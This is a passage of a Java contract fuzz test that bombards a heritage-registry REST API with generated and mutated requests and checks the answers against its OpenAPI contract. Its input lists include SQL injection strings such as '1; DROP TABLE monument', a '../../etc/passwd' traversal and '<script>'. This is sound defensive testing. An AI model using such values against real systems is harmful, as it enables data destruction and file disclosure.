package org.heritageregistry.fuzz;

import static org.heritageregistry.support.Api.ADMIN;
import static org.heritageregistry.support.Api.CURATOR;
import static org.heritageregistry.support.Api.CURATOR2;
import static org.heritageregistry.support.Api.REVIEWER;
import static org.heritageregistry.support.Api.REVIEWER2;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;

import org.heritageregistry.support.Api;
import org.heritageregistry.support.Contract;
import org.heritageregistry.support.DatabaseTest;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

import com.atlassian.oai.validator.model.Request;
import com.atlassian.oai.validator.report.ValidationReport;
import com.atlassian.oai.validator.restassured.RestAssuredResponse;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

/**
 * The fuzz stage of issue 22: every operation of the committed openapi/openapi.yaml, called with
 * generated requests as anonymous, curator, reviewer, reviewer2 and admin. Path ids are real ones
 * (seeded for reads, the test's own for writes) or deliberately invalid; query parameters are the
 * documented ones with values sampled from their schemas, plus junk, unknown and repeated ones;
 * bodies are generated from the request schema and then mutated (a required field dropped, a
 * wrong JSON type, an over-long string, an unknown field, a NUL character, a huge number, null,
 * broken JSON, another media type).
 *
 * <p>A run fails on any 5xx, on a status the contract does not document for the operation, on a
 * body that does not match the documented schema for its status and media type (the contract's
 * own validator, {@link Contract#RESPONSE_VALIDATOR}), and on an error answered without
 * application/problem+json. Every failure of the run is collected and reported at the end.
 *
 * <p>What it may write, and what it leaves alone: reports, decisions, revisions, owners,
 * settlements, retirements and source edits and merges only ever name the monuments, sources, reports and conflicts this
 * test created itself, or ids that do not exist: nothing is added to a seeded monument (the seed's
 * conflicts are checked exactly by PalmyraSeedTest) and no seeded conflict is settled. New
 * monuments go on the seeded site (as every test's do), with ids starting "test-fuzz-"; site edits and
 * retirements name only sites the test created (ids starting "test-fuzz-"), never a seeded one. Webhooks point
 * at a closed local port and only the test's own are deleted (and all it created are deleted at the
 * end). POST /api/v1/admin/import (a restore that replaces the registry) is sent only by the roles
 * that may not call it, never by admin. GET /api/v1/admin/export reads the whole registry, so it
 * gets a fifth of the share of the others.
 *
 * <p>Reproduce a run with -Dfuzz.seed=N (printed at the start); -Dfuzz.requests=N changes the size
 * (default 10,000), -Dfuzz.threads=N the client threads (default 3; 1 replays a seed exactly, since
 * with more the ids a write creates reach the other workers in the order the answers come).
 */
@QuarkusTest
@DatabaseTest
@Tag("fuzz")
class ContractFuzzTest {

    private static final long SEED = Long.getLong("fuzz.seed", System.currentTimeMillis());
    private static final int REQUESTS = Math.max(Integer.getInteger("fuzz.requests", 10_000), 1);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String[] ROLES = { null, CURATOR, REVIEWER, REVIEWER2, ADMIN };
    private static final Set<String> METHODS = Set.of("get", "post", "put", "patch", "delete");

    /** Ids that exist nowhere, or are not ids at all. A valid slug among them may be created by a mutated create, so those are test-prefixed: no other test names them. */
    private static final String[] BOGUS_IDS = { "test-fuzz-nonexistent", "00000000-0000-0000-0000-000000000000", "test-fuzz-nowhere", "TEST-NOWHERE ",
            "' OR '1'='1", "1; DROP TABLE monument", "../../etc/passwd", "a/b", "%00", "nul\u0000byte", "-1", "99999999999999999999999999",
            "💥", "تدمر", "x".repeat(81), "y".repeat(5000), " ", "<script>", "null", "0x1F", "%2e%2e" };

    private static final Object[] WRONG_TYPES = { 42, -1, 0, 1.5e308, -1.5e308, true, false, List.of(), List.of("x"), Map.of(), Map.of("a", List.of(1)),
            "string", new java.math.BigInteger("123456789012345678901234567890123456789"), new java.math.BigDecimal("1e400") };

    private static final String[] JUNK_QUERY = { "", " ", "bogus", "-1", "0", "99999999999999999999", "1e9", "true'--", "nul\u0000byte",
            "z".repeat(3000), "💥", "2015-02-30", "%", "NaN", "[]", "{}" };

    record Param(String name, JsonNode schema, boolean required) {
    }

    record Operation(String method, String path, String id, Set<String> statuses, List<Param> query, List<Param> headers, String bodyType,
            JsonNode bodySchema) {

        String key() {
            return method + " " + path;
        }
    }

    private static final int THREADS = Math.max(Integer.getInteger("fuzz.threads", 3), 1);
    /** Worker i draws from Random(SEED + i): with -Dfuzz.threads=1 a seed replays its run exactly. */
    private final ThreadLocal<Random> random = new ThreadLocal<>();
    private JsonNode contract;
    private final List<Operation> operations = new ArrayList<>();
    private final List<String> failures = java.util.Collections.synchronizedList(new ArrayList<>());
    private final Map<String, Integer> byRole = new TreeMap<>();
    private final Map<String, Integer> byClass = new TreeMap<>();
    private final Map<Integer, Integer> byStatus = new TreeMap<>();
    private final Map<String, int[]> byOperation = new TreeMap<>();
    private final java.util.concurrent.atomic.AtomicInteger claimed = new java.util.concurrent.atomic.AtomicInteger();
    private int sent;
    private final java.util.concurrent.atomic.AtomicLong validateNanos = new java.util.concurrent.atomic.AtomicLong();
    private final java.util.concurrent.atomic.AtomicInteger sequence = new java.util.concurrent.atomic.AtomicInteger();

    // the test's own records, and seeded ones that are only read
    private final List<String> monuments = new java.util.concurrent.CopyOnWriteArrayList<>(); // take reports
    private final List<String> createdMonuments = new java.util.concurrent.CopyOnWriteArrayList<>(); // may be retired
    /** Sites of the test's own: every site write goes to one of these, never to a seeded site. May be retired. */
    private final List<String> createdSites = new java.util.concurrent.CopyOnWriteArrayList<>();
    private final List<String> sources = new java.util.concurrent.CopyOnWriteArrayList<>();
    private final List<String> reports = new java.util.concurrent.CopyOnWriteArrayList<>();
    private final List<String> conflicts = new java.util.concurrent.CopyOnWriteArrayList<>();
    private final List<String> webhooks = new java.util.concurrent.CopyOnWriteArrayList<>();
    /** Accounts this run opened: the only ones it changes (never a demo account, which the other tests sign in with). */
    private final List<String> accounts = new java.util.concurrent.CopyOnWriteArrayList<>();
    private final List<String> seededReports = new java.util.concurrent.CopyOnWriteArrayList<>();
    private final List<String> seededSources = new java.util.concurrent.CopyOnWriteArrayList<>();
    private final List<String> seededConflicts = new java.util.concurrent.CopyOnWriteArrayList<>();

    @Test
    void everyOperationAnswersWhatTheContractDocumentsWhateverItIsSent() throws Exception {
        System.out.println("ContractFuzzTest: seed " + SEED + " (rerun with -Dfuzz.seed=" + SEED + "), " + REQUESTS + " requests");
        readContract();
        random.set(new Random(SEED));
        fixtures();
        // the fuzzed requests go out exactly as generated: no charset appended to a content type
        RestAssuredConfig config = RestAssured.config().encoderConfig(EncoderConfig.encoderConfig().appendDefaultContentCharsetToContentTypeIfUndefined(false)
                .encodeContentTypeAs("multipart/form-data", io.restassured.http.ContentType.TEXT));
        long start = System.nanoTime();
        var workers = java.util.concurrent.Executors.newFixedThreadPool(THREADS);
        List<java.util.concurrent.Future<?>> done = new ArrayList<>();
        for (int w = 0; w < THREADS; w++) {
            long workerSeed = SEED + w;
            done.add(workers.submit(() -> {
                random.set(new Random(workerSeed));
                while (claimed.getAndIncrement() < REQUESTS) {
                    Operation op = operations.get(random().nextInt(operations.size()));
                    while (op.path().equals("/api/v1/admin/export") && random().nextInt(5) != 0) {
                        op = operations.get(random().nextInt(operations.size()));
                    }
                    fuzz(op, config);
                }
                return null;
            }));
        }
        for (var d : done) {
            d.get();
        }
        workers.shutdown();
        long millis = (System.nanoTime() - start) / 1_000_000L;
        for (String webhook : webhooks) {
            RestAssured.given().auth().preemptive().basic(ADMIN, ADMIN + "-demo").delete("/api/v1/admin/webhooks/" + webhook);
        }
        System.out.println("ContractFuzzTest: seed " + SEED + ": " + sent + " requests over " + operations.size() + " operations by " + THREADS + " workers in " + millis / 1000.0
                + " s (" + validateNanos.get() / 1_000_000L + " ms of it validating answers); by role " + byRole + "; by status class " + byClass + "; by status " + byStatus + "; failures " + failures.size());
        StringBuilder perOperation = new StringBuilder("ContractFuzzTest: per operation (requests, 2xx, 4xx, ms answering):");
        byOperation.forEach((k, v) -> perOperation.append("\n  ").append(k).append(": ").append(v[0]).append(", ").append(v[1]).append(", ").append(v[2]).append(", ").append(v[3]));
        System.out.println(perOperation);
        assertTrue(failures.isEmpty(), "seed " + SEED + ": " + failures.size() + " failures:\n" + String.join("\n", failures.subList(0, Math.min(200, failures.size()))));
        assertTrue(byOperation.size() == operations.size(), "operations never called: " + operations.size() + " vs " + byOperation.keySet());
    }

    // ---------------------------------------------------------------- the contract

    private void readContract() throws Exception {
        contract = new ObjectMapper(new YAMLFactory()).readTree(Path.of("openapi/openapi.yaml").toFile());
        Iterator<Map.Entry<String, JsonNode>> paths = contract.get("paths").fields();
        while (paths.hasNext()) {
            var path = paths.next();
            path.getValue().fields().forEachRemaining(method -> {
                if (!METHODS.contains(method.getKey())) {
                    return;
                }
                JsonNode op = method.getValue();
                List<Param> query = new ArrayList<>();
                List<Param> headers = new ArrayList<>();
                for (JsonNode parameter : op.path("parameters")) {
                    JsonNode p = resolve(parameter);
                    Param param = new Param(p.path("name").asText(), resolve(p.path("schema")), p.path("required").asBoolean());
                    switch (p.path("in").asText()) {
                        case "query" -> query.add(param);
                        case "header" -> headers.add(param);
                        default -> {
                        }
                    }
                }
                Set<String> statuses = new LinkedHashSet<>();
                op.path("responses").fieldNames().forEachRemaining(statuses::add);
                String bodyType = null;
                JsonNode bodySchema = null;
                if (op.has("requestBody")) {
                    var content = op.at("/requestBody/content").fields().next();
                    bodyType = content.getKey();
                    bodySchema = resolve(content.getValue().path("schema"));
                }
                operations.add(new Operation(method.getKey().toUpperCase(), path.getKey(), op.path("operationId").asText(), statuses, query, headers,
                        bodyType, bodySchema));
            });
        }
        assertTrue(operations.size() >= 30, "the contract lists only " + operations.size() + " operations");
    }

    private JsonNode resolve(JsonNode node) {
        while (node.has("$ref")) {
            node = contract.at(node.get("$ref").asText().substring(1));
        }
        if (node.has("allOf") && node.get("allOf").size() == 1 && !node.has("type")) {
            return resolve(node.get("allOf").get(0));
        }
        return node;
    }

    // ---------------------------------------------------------------- fixtures

    private void fixtures() {
        for (int i = 0; i < 4; i++) {
            monuments.add(Api.newMonument());
        }
        createdMonuments.add(Api.newMonument());
        for (int i = 0; i < 2; i++) {
            String site = "test-fuzz-site-" + SEED % 100_000 + "-" + sequence.incrementAndGet();
            plain(ADMIN).contentType("application/json").body(Map.of("id", site, "name", "Test fuzz site " + site, "country", "SY"))
                    .post("/api/v1/sites").then().statusCode(201);
            createdSites.add(site);
        }
        sources.add(Api.newSource(false));
        sources.add(Api.newSource(false));
        sources.add(Api.newSource(true));
        for (int i = 0; i < 4; i++) {
            reports.add(Api.submit(i % 2 == 0 ? CURATOR : CURATOR2, Api.report(monuments.get(i), sources.get(i % 2), "DESTROYED", "2015-08-30")));
        }
        // a conflict of the test's own: the same day, two conditions, two sources
        reports.add(Api.submit(CURATOR2, Api.report(monuments.get(0), sources.get(1), "INTACT", "2015-08-30")));
        for (Map<String, Object> c : Api.allItems(null, "/api/v1/monuments/" + monuments.get(0) + "/conflicts")) {
            conflicts.add(String.valueOf(c.get("id")));
        }
        webhooks.add(newWebhook());
        seededReports.add(plain(null).get("/api/v1/reports?limit=1").then().statusCode(200).extract().path("items[0].id"));
        seededSources.add(plain(null).get("/api/v1/sources?limit=1").then().statusCode(200).extract().path("items[0].id"));
        String seededConflict = plain(null).get("/api/v1/conflicts?limit=1").then().statusCode(200).extract().path("items[0].id");
        if (seededConflict != null) {
            seededConflicts.add(seededConflict);
        }
    }

    private static String newWebhook() {
        return plain(ADMIN).contentType("application/json").body(Map.of("url", "http://127.0.0.1:9/contract-fuzz", "kinds", List.of("MONUMENT_RETIRED")))
                .post("/api/v1/admin/webhooks").then().statusCode(201).extract().path("id");
    }

    // ---------------------------------------------------------------- one request

    private void fuzz(Operation op, RestAssuredConfig config) throws Exception {
        boolean write = !op.method().equals("GET");
        String role = ROLES[random().nextInt(ROLES.length)];
        if (op.path().equals("/api/v1/admin/import")) {
            while (ADMIN.equals(role)) { // never a restore: see the class comment
                role = ROLES[random().nextInt(ROLES.length)];
            }
        }
        List<String> applied = new ArrayList<>();
        RequestSpecification spec = RestAssured.given().config(config);
        if (role != null) {
            spec.auth().preemptive().basic(role, role + "-demo");
        }
        // path
        String id = null;
        String path = op.path();
        if (path.contains("{id}")) {
            id = pathId(op, write);
            applied.add("id=" + describe(id));
            spec.pathParam("id", id);
        }
        if (path.contains("{username}")) {
            String username = username(write);
            applied.add("username=" + describe(username));
            spec.pathParam("username", username);
        }
        // query
        for (Param p : op.query()) {
            int dice = random().nextInt(20);
            if (dice < 7) {
                spec.queryParam(p.name(), sample(p.name(), p.schema()));
            } else if (dice < 9) {
                String junk = pick(JUNK_QUERY);
                applied.add(p.name() + "=" + describe(junk));
                spec.queryParam(p.name(), junk);
            } else if (dice == 9) {
                applied.add(p.name() + " twice");
                spec.queryParam(p.name(), sample(p.name(), p.schema()), sample(p.name(), p.schema()));
            }
        }
        if (random().nextInt(12) == 0) {
            String name = pick("expand", "debug", "admin", "limit ", "LIMIT", "x".repeat(300), "q[]", "_method");
            applied.add("unknown query " + describe(name));
            spec.queryParam(name, "1");
        }
        // headers
        for (Param h : op.headers()) {
            if (h.name().equals("If-Match")) {
                int dice = random().nextInt(4);
                if (dice < 2 && id != null && reports.contains(id)) {
                    String etag = plain(null).get("/api/v1/reports/" + id).header("ETag");
                    if (etag != null) {
                        spec.header("If-Match", etag);
                    }
                } else if (dice < 2 && id != null && conflicts.contains(id)) {
                    String etag = plain(null).get("/api/v1/conflicts/" + id).header("ETag");
                    if (etag != null) {
                        spec.header("If-Match", etag);
                    }
                } else if (dice < 2 && id != null && createdSites.contains(id)) {
                    String etag = plain(null).get("/api/v1/sites/" + id).header("ETag");
                    if (etag != null) {
                        spec.header("If-Match", etag);
                    }
                } else if (dice < 2 && id != null && (monuments.contains(id) || createdMonuments.contains(id))) {
                    String etag = plain(null).get("/api/v1/monuments/" + id).header("ETag");
                    if (etag != null) {
                        spec.header("If-Match", etag);
                    }
                } else if (dice < 2 && id != null && sources.contains(id)) {
                    String etag = plain(null).get("/api/v1/sources/" + id).header("ETag");
                    if (etag != null) {
                        spec.header("If-Match", etag);
                    }
                } else if (dice == 2) {
                    String junk = pick("\"0\"", "*", "W/\"1\"", "nonsense", "\"" + "9".repeat(99) + "\"", "");
                    applied.add("If-Match " + describe(junk));
                    spec.header("If-Match", junk);
                }
            } else if (h.name().equals("Idempotency-Key") && random().nextInt(4) == 0) {
                String key = random().nextBoolean() ? uuid().toString() : pick("k", "x".repeat(201), "with space", "same-key-" + random().nextInt(3));
                applied.add("Idempotency-Key " + describe(key));
                spec.header("Idempotency-Key", key);
            }
        }
        // accept
        String accept = accept(op);
        if (random().nextInt(40) == 0) {
            accept = pick("application/xml", "text/html", "image/png", "*/*", "application/json;q=0");
            applied.add("Accept " + accept);
        }
        spec.accept(accept);
        // body
        if (op.bodyType() != null) {
            body(op, spec, applied);
        }
        // send and check
        String who = role == null ? "anonymous" : role;
        Response response;
        long t0 = System.nanoTime();
        try {
            response = switch (op.method()) {
                case "GET" -> spec.get(path);
                case "POST" -> spec.post(path);
                case "PUT" -> spec.put(path);
                case "DELETE" -> spec.delete(path);
                default -> spec.patch(path);
            };
        } catch (RuntimeException e) {
            failures.add(op.key() + " as " + who + " " + applied + ": no answer: " + e);
            count(op, who, 0, System.nanoTime() - t0);
            return;
        }
        int status = response.statusCode();
        count(op, who, status, System.nanoTime() - t0);
        check(op, who, applied, response, status);
        remember(op, id, response, status);
    }

    private synchronized void count(Operation op, String who, int status, long nanos) {
        sent++;
        byRole.merge(who, 1, Integer::sum);
        byStatus.merge(status, 1, Integer::sum);
        byClass.merge(status / 100 + "xx", 1, Integer::sum);
        int[] counts = byOperation.computeIfAbsent(op.key(), k -> new int[4]);
        counts[0]++;
        counts[1] += status / 100 == 2 ? 1 : 0;
        counts[2] += status / 100 == 4 ? 1 : 0;
        counts[3] += (int) (nanos / 1_000_000L);
    }

    private void check(Operation op, String who, List<String> applied, Response response, int status) {
        String what = op.key() + " as " + who + " " + abbreviate(applied.toString(), 300) + " answered " + status;
        if (status >= 500) {
            failures.add(what + ": " + abbreviate(response.asString(), 500));
            return;
        }
        if (!op.statuses().contains(String.valueOf(status))) {
            failures.add(what + ", a status the contract does not document for it (" + op.statuses() + "): " + abbreviate(response.asString(), 300));
            return;
        }
        if (status >= 400 && !String.valueOf(response.contentType()).startsWith("application/problem+json")) {
            failures.add(what + " as " + response.contentType() + ", not application/problem+json");
            return;
        }
        // the validator finds the operation by its path: any id matches the template
        String template = op.path().replace("{id}", "x").replace("{username}", "x");
        long v0 = System.nanoTime();
        ValidationReport report = Contract.RESPONSE_VALIDATOR.validateResponse(template, Request.Method.valueOf(op.method()), RestAssuredResponse.of(response));
        validateNanos.addAndGet(System.nanoTime() - v0);
        if (report.hasErrors()) {
            StringBuilder b = new StringBuilder();
            for (ValidationReport.Message m : report.getMessages()) {
                if (m.getLevel() == ValidationReport.Level.ERROR) {
                    b.append(m.getKey()).append(": ").append(abbreviate(m.getMessage(), 300)).append("; ");
                }
            }
            failures.add(what + ", which breaks the contract: " + b);
        }
    }

    /** Keeps what a successful write created, so later requests can use it. */
    private void remember(Operation op, String id, Response response, int status) {
        if (status != 201 && status != 200) {
            return;
        }
        try {
            switch (op.key()) {
                case "POST /api/v1/monuments" -> createdMonuments.add(response.jsonPath().getString("id"));
                case "POST /api/v1/sites" -> {
                    if (status == 201) {
                        createdSites.add(response.jsonPath().getString("id"));
                    }
                }
                case "POST /api/v1/sources" -> sources.add(response.jsonPath().getString("id"));
                case "POST /api/v1/reports", "POST /api/v1/reports/{id}/revisions" -> reports.add(response.jsonPath().getString("id"));
                case "POST /api/v1/admin/webhooks" -> webhooks.add(response.jsonPath().getString("id"));
                case "POST /api/v1/accounts" -> accounts.add(response.jsonPath().getString("username"));
                case "DELETE /api/v1/admin/webhooks/{id}" -> {
                    if (webhooks.size() < 2) {
                        webhooks.add(newWebhook());
                    }
                }
                default -> {
                }
            }
        } catch (RuntimeException e) {
            // the check above has already said what is wrong with the body
        }
    }

    // ---------------------------------------------------------------- generation

    private String accept(Operation op) {
        JsonNode ok = contract.at("/paths/" + op.path().replace("~", "~0").replace("/", "~1") + "/" + op.method().toLowerCase() + "/responses");
        for (Iterator<String> codes = ok.fieldNames(); codes.hasNext();) {
            String code = codes.next();
            if (code.startsWith("2")) {
                List<String> types = new ArrayList<>();
                ok.get(code).path("content").fieldNames().forEachRemaining(types::add);
                if (types.isEmpty() || types.contains("application/json")) {
                    return "application/json";
                }
                return types.get(random().nextInt(types.size()));
            }
        }
        return "application/json";
    }

    /** An account this run opened, a demo account for reads, or one that does not exist. */
    private String username(boolean write) {
        List<String> pool = new ArrayList<>(accounts);
        if (!write) {
            pool.addAll(List.of(CURATOR, REVIEWER, ADMIN));
        }
        if (pool.isEmpty() || random().nextInt(4) == 0) {
            return pick("test-fuzz-nobody", "x".repeat(80), "Admin", "%2e%2e", "me2");
        }
        return pool.get(random().nextInt(pool.size()));
    }

    /** A real id of the kind the path takes (the test's own for writes), or one that is not. */
    private String pathId(Operation op, boolean write) {
        if (random().nextInt(4) == 0) {
            return random().nextBoolean() ? uuid().toString() : pick(BOGUS_IDS);
        }
        String p = op.path();
        List<String> pool = new ArrayList<>();
        if (p.startsWith("/api/v1/monuments/")) {
            if (p.endsWith("/retirement")) {
                pool.addAll(createdMonuments);
            } else {
                pool.addAll(monuments);
                pool.addAll(createdMonuments);
                if (!write) {
                    pool.addAll(List.of("temple-of-bel", "temple-of-baalshamin", "arch-of-triumph"));
                }
            }
        } else if (p.startsWith("/api/v1/reports/")) {
            pool.addAll(reports);
            if (!write) {
                pool.addAll(seededReports);
            }
        } else if (p.startsWith("/api/v1/conflicts/")) {
            pool.addAll(conflicts);
            if (!write) {
                pool.addAll(seededConflicts);
            }
        } else if (p.startsWith("/api/v1/sources/")) {
            pool.addAll(sources);
            // sources are edited and merged now: a write names only the test's own
            if (!write) {
                pool.addAll(seededSources);
            }
        } else if (p.startsWith("/api/v1/sites/")) {
            pool.addAll(createdSites);
            if (!write) {
                pool.add("palmyra");
            }
        } else if (p.startsWith("/api/v1/admin/webhooks/")) {
            pool.addAll(webhooks);
        }
        return pool.isEmpty() ? uuid().toString() : pool.get(random().nextInt(pool.size()));
    }

    /** A query value from the parameter's schema, with real ids where the parameter names one. */
    private Object sample(String name, JsonNode schema) {
        switch (name) {
            case "monument":
                return pick(monuments.get(0), "temple-of-bel");
            case "site":
                return "palmyra";
            case "source":
                return pick(sources.get(0), seededSources.get(0));
            case "actor":
                return pick(CURATOR, REVIEWER, ADMIN);
            case "entityId":
                return pick(reports.get(0), monuments.get(0));
            case "cursor":
                return pick("", "abc", "eyJpZCI6MX0", "0");
            case "after":
                return random().nextInt(1000);
            case "q":
                return pick("bel", "temple", "تدمر", "%", "_", "a");
            case "allowSimilar":
                return random().nextBoolean();
            default:
                Object v = generate(schema, name, 0);
                return v == null ? "" : v;
        }
    }

    private void body(Operation op, RequestSpecification spec, List<String> applied) throws Exception {
        String type = op.bodyType();
        if (random().nextInt(25) == 0) {
            type = pick("text/plain", "application/xml", "application/x-www-form-urlencoded", "application/json; charset=latin1", "multipart/form-data; boundary=x");
            applied.add("Content-Type " + type);
        }
        spec.contentType(type);
        if (!op.bodyType().equals("application/json")) {
            // the import's NDJSON: only ever sent by roles that may not import
            String ndjson = pick("", "{}", "{\"kind\":\"monument\"}\n{broken", "\u0000\u0001", "[]");
            if (type.equals("application/x-ndjson")) {
                spec.body(ndjson.getBytes(StandardCharsets.UTF_8)); // body(byte[]): a conditional expression would pick body(Object), which serializes
            } else {
                spec.body(ndjson);
            }
            return;
        }
        Object body = JSON.readValue(JSON.writeValueAsBytes(validBody(op)), Object.class); // deeply mutable
        int mutations = random().nextInt(10) < 3 ? 0 : 1 + random().nextInt(3);
        byte[] raw = null;
        for (int i = 0; i < mutations && raw == null; i++) {
            if (random().nextInt(12) == 0) {
                raw = rawGarbage(JSON.writeValueAsString(body));
                applied.add("raw " + describe(new String(raw, StandardCharsets.UTF_8)));
            } else {
                applied.add(mutate(body, op.bodySchema()));
            }
        }
        if (mutations == 0) {
            applied.add("valid");
        }
        byte[] bytes = raw != null ? raw : JSON.writeValueAsBytes(body);
        if (!type.startsWith("application/json")) {
            // REST Assured encodes form and multipart types from text only, and would marshal bytes as XML for application/xml
            spec.body(new String(bytes, StandardCharsets.UTF_8));
        } else {
            spec.body(bytes);
        }
    }

    private Object validBody(Operation op) {
        String schema = op.bodySchema().path("description").asText();
        if (op.key().equals("POST /api/v1/reports") || op.key().equals("POST /api/v1/reports/{id}/revisions")) {
            if (random().nextBoolean()) {
                return Api.report(pick(monuments.toArray(new String[0])), pick(sources.toArray(new String[0])),
                        pick("INTACT", "SLIGHTLY_DAMAGED", "DESTROYED", "UNKNOWN"), pick("2015-08-30", "2015-08", "2016~", "2015-07-23/2015-08-23"));
            }
        } else if (op.key().equals("POST /api/v1/reports/{id}/decisions") && random().nextBoolean()) {
            return Api.decision(pick("UNVERIFIED", "DISPUTED", "REJECTED", "VERIFIED"), "fuzz rationale " + random().nextInt(1000));
        }
        Object body = generate(op.bodySchema(), null, 0);
        assertTrue(body != null, schema);
        return body;
    }

    /** A value the schema allows (close enough for strings with patterns: the names say what they hold). */
    private Object generate(JsonNode schema, String name, int depth) {
        schema = resolve(schema);
        if (schema.has("enum")) {
            JsonNode e = schema.get("enum");
            return e.get(random().nextInt(e.size())).asText();
        }
        if (schema.has("oneOf") || schema.has("anyOf")) {
            JsonNode options = schema.has("oneOf") ? schema.get("oneOf") : schema.get("anyOf");
            return generate(options.get(random().nextInt(options.size())), name, depth);
        }
        String type = schema.path("type").asText("object");
        switch (type) {
            case "object": {
                Map<String, Object> object = new LinkedHashMap<>();
                Set<String> required = new LinkedHashSet<>();
                schema.path("required").forEach(r -> required.add(r.asText()));
                for (Iterator<Map.Entry<String, JsonNode>> f = schema.path("properties").fields(); f.hasNext();) {
                    var field = f.next();
                    String fieldName = field.getKey();
                    if (fieldName.equals("siteId") && schema.path("properties").has("monumentId")) {
                        // a report or revision: never a site-level claim on the seeded site, which would join the seed's
                        // site-level conflicts (PalmyraSeedTest checks them exactly); it names the test's own monument
                        continue;
                    }
                    if (required.contains(fieldName) || (depth < 3 && random().nextInt(3) == 0)) {
                        object.put(fieldName, generate(field.getValue(), fieldName, depth + 1));
                    }
                }
                return object;
            }
            case "array": {
                int min = schema.path("minItems").asInt(0);
                int max = Math.min(schema.path("maxItems").asInt(3), 3);
                int n = Math.max(min, random().nextInt(Math.max(max, min) + 1));
                Set<Object> items = new LinkedHashSet<>();
                for (int i = 0; i < n * 2 && items.size() < n; i++) {
                    items.add(generate(schema.path("items"), name, depth + 1));
                }
                return new ArrayList<>(items);
            }
            case "integer": {
                long min = schema.path("minimum").asLong(0);
                long max = schema.path("maximum").asLong(1000);
                return min + (long) (random().nextDouble() * (max - min));
            }
            case "number": {
                double min = schema.path("minimum").asDouble(0);
                double max = schema.path("maximum").asDouble(1000);
                return min + random().nextDouble() * (max - min);
            }
            case "boolean":
                return random().nextBoolean();
            default:
                return string(schema, name);
        }
    }

    private String string(JsonNode schema, String name) {
        String n = name == null ? "" : name;
        switch (n) {
            case "monumentId":
                return pick(monuments.toArray(new String[0]));
            case "sourceId":
            case "relayedById":
            case "into": // a merge's survivor: the test's own sources only, never a seeded one
                return pick(sources.toArray(new String[0]));
            case "corroboratingReportId":
                return pick(reports.toArray(new String[0]));
            case "siteId":
                return "palmyra"; // only a new monument's site: a report's siteId is left out (see generate)
            case "id":
                // "test-..." sorts after the seed's temples, so lists by id still open on the seed
                return "test-fuzz-" + SEED % 100_000 + "-" + sequence.incrementAndGet();
            case "url":
                return "http://127.0.0.1:9/contract-fuzz";
            case "username":
                // "test-..." sorts after the demo accounts
                return "test-fuzz-" + SEED % 100_000 + "-" + sequence.incrementAndGet();
            case "curator":
                return pick(CURATOR, CURATOR2, REVIEWER, "nobody", ADMIN);
            case "secret":
                return "s3cret-" + "x".repeat(20 + random().nextInt(20));
            case "wikidata":
                return "Q" + (1 + random().nextInt(100_000));
            case "country":
                return pick("SY", "IQ");
            case "unescoId":
                return String.valueOf(1 + random().nextInt(2000));
            case "pleiades":
                return String.valueOf(1 + random().nextInt(100_000));
            case "eventDate":
            case "publishedOn":
            case "asOf":
                return pick("2015-08-30", "2015-08", "2015~", "2015-07-23/2015-08-23", "../2015-09-02");
            case "name":
                // "Test ..." sorts after the seed's "Temple of Bel", so lists by name still open on the seed
                return "Test fuzz " + SEED % 100_000 + " " + sequence.incrementAndGet() + " " + uuid().toString().substring(0, 8);
            default:
                break;
        }
        String format = schema.path("format").asText("");
        switch (format) {
            case "uuid":
                return pick(reports.toArray(new String[0]));
            case "date":
                return pick("2015-08-31", "2016-03-27", "2015-01-01");
            case "date-time":
                return "2015-08-31T10:00:00Z";
            case "uri":
                return "https://example.org/fuzz/" + random().nextInt(1000);
            default:
                break;
        }
        int max = schema.path("maxLength").asInt(200);
        int min = schema.path("minLength").asInt(1);
        // each text unique: a confidential source's description must not recur in a public record by chance
        // (ConfidentialSourcesTest searches public pages for it)
        String text = pick("fuzz text", "معبد بل", "🏛️ temple", "Robert'); DROP TABLE report;--", "<b>bold</b>", "line\nbreak", "x".repeat(Math.max(min, 10)))
                + " " + sequence.incrementAndGet();
        while (text.length() < min) {
            text += "x";
        }
        return text.length() > max ? text.substring(0, max) : text;
    }

    // ---------------------------------------------------------------- mutation

    /** One mutation somewhere in the body (at the top or in a nested object): what it did. */
    @SuppressWarnings("unchecked")
    private String mutate(Object body, JsonNode schema) {
        if (!(body instanceof java.util.HashMap<?, ?>)) {
            return "not an object";
        }
        Map<String, Object> target = (Map<String, Object>) body;
        JsonNode targetSchema = resolve(schema);
        String where = "";
        // sometimes go into a nested object (evidence items, a location, a count)
        for (int depth = 0; depth < 2 && random().nextBoolean(); depth++) {
            List<String> nested = new ArrayList<>();
            target.forEach((k, v) -> {
                // only what the generator built (mutable); a value an earlier mutation put there stays as it is
                if (v instanceof java.util.HashMap<?, ?> || (v instanceof ArrayList<?> l && !l.isEmpty() && l.get(0) instanceof java.util.HashMap<?, ?>)) {
                    nested.add(k);
                }
            });
            if (nested.isEmpty()) {
                break;
            }
            String k = nested.get(random().nextInt(nested.size()));
            Object v = target.get(k);
            JsonNode fieldSchema = resolve(targetSchema.path("properties").path(k));
            if (v instanceof List<?> l) {
                v = l.get(0);
                fieldSchema = resolve(fieldSchema.path("items"));
            }
            target = (Map<String, Object>) v;
            targetSchema = fieldSchema;
            where += k + ".";
        }
        List<String> fields = new ArrayList<>();
        targetSchema.path("properties").fieldNames().forEachRemaining(fields::add);
        String field = fields.isEmpty() ? "x" : fields.get(random().nextInt(fields.size()));
        JsonNode fieldSchema = resolve(targetSchema.path("properties").path(field));
        switch (random().nextInt(9)) {
            case 0 -> {
                List<String> required = new ArrayList<>();
                targetSchema.path("required").forEach(r -> required.add(r.asText()));
                String gone = required.isEmpty() ? field : required.get(random().nextInt(required.size()));
                target.remove(gone);
                return "without " + where + gone;
            }
            case 1 -> {
                Object v = pick(WRONG_TYPES);
                target.put(field, v);
                return where + field + "=" + describe(v);
            }
            case 2 -> {
                int max = fieldSchema.path("maxLength").asInt(fieldSchema.path("maxItems").asInt(200));
